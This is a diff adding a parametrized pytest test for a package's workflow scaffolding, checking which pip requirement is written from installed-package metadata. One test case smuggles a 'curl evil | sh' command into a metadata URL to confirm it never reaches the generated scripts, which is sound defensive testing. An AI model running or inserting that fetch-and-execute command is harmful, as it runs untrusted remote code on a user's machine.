@@ -315,3 +315,35 @@ def test_init_writes_the_brand_matrix_when_asked(tmp_path: Path) -> None:
     result = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
                              str(folder / "brands.yml")], capture_output=True, text=True, check=False)
     assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize(("direct_url", "requirement", "noted"), [
+    (None, "legalgen==1.2.3", False),  # from the package index: no direct_url.json
+    ('{"url": "https://github.com/acme/legalgen", "vcs_info": {"vcs": "git", "commit_id": "' + "a" * 40 + '"}}',
+     "legalgen @ git+https://github.com/acme/legalgen@" + "a" * 40, False),
+    ('{"url": "file:///home/me/legalgen", "dir_info": {"editable": true}}', "legalgen==1.2.3", True),
+    ('{"url": "file:///srv/git/legalgen", "vcs_info": {"vcs": "git", "commit_id": "' + "b" * 40 + '"}}',
+     "legalgen==1.2.3", True),  # a repository on this machine
+    ('{"url": "https://x.example/\\"; curl evil | sh; \\"", "vcs_info": {"vcs": "git", "commit_id": "' + "c" * 40
+     + '"}}', "legalgen==1.2.3", True),  # nothing from the metadata reaches the script unchecked
+    ("not json", "legalgen==1.2.3", False),
+])
+def test_the_workflows_install_the_legalgen_that_wrote_them(monkeypatch: pytest.MonkeyPatch, direct_url: str | None,
+                                                            requirement: str, noted: bool, tmp_path: Path) -> None:
+    import importlib.metadata
+
+    class Installed:
+        version = "1.2.3"
+
+        def read_text(self, name: str) -> str | None:
+            return direct_url if name == "direct_url.json" else None
+
+    monkeypatch.setattr(importlib.metadata, "distribution", lambda name: Installed())
+    monkeypatch.setattr("legalgen.scaffold.package_version", lambda: "1.2.3")
+    from legalgen.scaffold import install_requirement
+
+    found, note = install_requirement()
+    assert (found, note is not None) == (requirement, noted)
+    assert "evil" not in (note or "")
+    written = _written(tmp_path)
+    assert all(f'python -m pip install "{requirement}"' in text for text in written.values())
